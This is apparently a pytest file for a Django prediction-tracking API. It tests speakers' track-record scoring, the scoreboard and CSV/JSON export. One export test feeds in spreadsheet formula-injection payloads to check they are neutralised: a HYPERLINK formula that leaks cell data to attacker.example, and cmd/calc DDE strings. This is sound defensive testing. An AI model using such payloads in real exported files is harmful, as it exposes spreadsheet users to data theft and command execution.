"""Speakers (track records), sources, the scoreboard and the export."""

from __future__ import annotations

import csv
import datetime
import io
import json
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from predictions import scoring
from predictions.models import Prediction, Source
from predictions.selectors import scoreboard
from tests.factories import PredictionFactory, SpeakerFactory, final_resolution_for

pytestmark = pytest.mark.django_db


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def test_speaker_track_record_counts_and_scores(anonymous: Client, frozen_now) -> None:
    speaker = SpeakerFactory.create(slug="grace", name="Grace")
    outcomes = ["correct", "correct", "incorrect", "partly_correct", "unresolvable"]
    for outcome in outcomes:
        final_resolution_for(
            PredictionFactory.create(speaker=speaker, resolve_on=datetime.date(2025, 1, 1), implied_probability=0.8),
            outcome=outcome,
        )
    PredictionFactory.create(speaker=speaker, resolve_on=datetime.date(2025, 1, 1))  # overdue
    PredictionFactory.create(speaker=speaker, resolve_on=datetime.date(2030, 1, 1))  # open
    PredictionFactory.create(speaker=speaker, is_public=False)  # not counted

    body = anonymous.get("/api/v1/speakers/grace/").json()

    record = body["track_record"]
    assert record["predictions"] == 7 and record["resolved"] == 5 and record["pending"] == 2
    assert record["due"] == 1 and record["overdue"] == 1
    assert (record["correct"], record["incorrect"], record["partly_correct"], record["unresolvable"]) == (2, 1, 1, 1)
    # The public pages' definitions (predictions.scoring): partly correct counts half.
    assert record["hit_rate"] == 0.625  # (2 + 0.5) / 4 scored
    interval = scoring.wilson_interval(2.5, 4)
    assert interval is not None
    assert record["hit_rate_interval"] == [round(interval.low, 4), round(interval.high, 4)]
    assert record["small_sample"] is True
    # Brier over 4 scored with p=0.8: (0.04 + 0.04 + 0.64 + 0.09) / 4
    assert record["brier_score"] == pytest.approx(0.2025) and record["brier_count"] == 4
    assert body["url"] == "http://127.0.0.1:8000/api/v1/speakers/grace/"
    assert body["track_record"] == anonymous.get("/api/v1/speakers/").json()["results"][0]["track_record"]
    [calibration_bin] = body["calibration"]  # every scored forecast said 0.8
    assert calibration_bin["count"] == 4 and calibration_bin["mean_forecast"] == 0.8


def test_unknown_speaker_is_404(anonymous: Client) -> None:
    assert anonymous.get("/api/v1/speakers/nobody/").status_code == 404


def test_speakers_and_sources_are_paged(anonymous: Client, article: None) -> None:
    SpeakerFactory.create_batch(3)

    first = anonymous.get("/api/v1/speakers/?page_size=2").json()
    sources = anonymous.get("/api/v1/sources/").json()["results"]

    assert len(first["results"]) == 2 and first["next"]
    [source] = sources
    stored = Source.objects.get()
    assert source["id"] == stored.pk and source["title_original"] == stored.title_original
    assert source["predictions_count"] == 4 and source["event"]["place"] == "Geneva, Switzerland"
    assert anonymous.get(f"/api/v1/sources/{stored.pk}/").json() == source
    assert anonymous.get("/api/v1/sources/999999/").status_code == 404


def test_scoreboard_is_the_public_scoreboards_numbers(anonymous: Client, article: None, frozen_now) -> None:
    with CaptureQueriesContext(connection) as queries:
        body = anonymous.get("/api/v1/scoreboard/").json()

    # Cold cache: the site's tally, the top speakers' tallies, due counts (with the planner's
    # hint and its savepoint: 4 statements), speakers, calibration — read from the kept
    # tallies; the same handful whatever the ledger's size.
    assert len(queries) <= 10
    board = scoreboard.scoreboard()
    assert body["totals"]["predictions"] == board.record.tally.total
    assert body["speaker_count"] == board.speaker_count == 1
    assert body["as_of"] == "2026-01-01"
    assert body["totals"]["predictions"] == 4 and body["totals"]["due"] == 1 and body["totals"]["hit_rate"] is None
    assert [speaker["slug"] for speaker in body["speakers"]] == ["sam-altman"]


def test_export_csv_streams_the_whole_public_ledger(anonymous: Client, article: None, frozen_now) -> None:
    PredictionFactory.create(is_public=False)

    response = anonymous.get("/api/v1/predictions/export.csv")

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode())))
    assert len(rows) == 4
    by_slug = {row["url"]: row for row in rows}
    inflection = Prediction.objects.get(slug="no-exponential-inflection-with-next-model")
    row = by_slug[f"http://127.0.0.1:8000/api/v1/predictions/{inflection.pk}/"]
    assert row["quote"] == inflection.quote and row["status"] == "due" and row["speaker_slug"] == "sam-altman"


def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(anonymous: Client, frozen_now) -> None:
    """Issue 9, finding 4 (OWASP "CSV injection"): text starting with = + - @ tab or CR gets a leading '."""
    formula = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
    PredictionFactory.create(
        claim=formula,
        translation="+1+cmd|' /C calc'!A0",
        resolution_criteria="-2+3",
        horizon="\tthree years",
        stated_confidence="an ordinary sentence",
        speaker=SpeakerFactory.create(name="@SUM(1+1)*cmd|' /C calc'!A0", name_original="\r=1+1"),
    )

    rows = list(csv.DictReader(io.StringIO(streamed(anonymous.get("/api/v1/predictions/export.csv")).decode())))
    exported = json.loads(streamed(anonymous.get("/api/v1/predictions/export.csv?format=json")))

    [row] = rows
    assert row["claim"] == "'" + formula
    assert row["translation"] == "'+1+cmd|' /C calc'!A0"
    assert row["resolution_criteria"] == "'-2+3"
    assert row["horizon"] == "'\tthree years" and row["speaker_name_original"] == "'\r=1+1"
    assert row["speaker_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["stated_confidence"] == "an ordinary sentence"  # nothing else changes
    assert row["made_on"] == "2024-05-30" and row["implied_probability"] == "0.8"
    assert exported[0]["claim"] == formula  # JSON is data, not a spreadsheet: verbatim


def test_export_json_matches_the_list_representation(anonymous: Client, article: None, frozen_now) -> None:
    response = anonymous.get("/api/v1/predictions/export.csv?format=json")

    exported = json.loads(streamed(response))
    listed = anonymous.get("/api/v1/predictions/?ordering=id").json()["results"]
    assert response["Content-Type"] == "application/json"
    assert exported == listed


def test_export_refuses_other_formats(anonymous: Client) -> None:
    response = anonymous.get("/api/v1/predictions/export.csv?format=xml")

    assert response.status_code == 400 and "format" in response.json()["errors"]
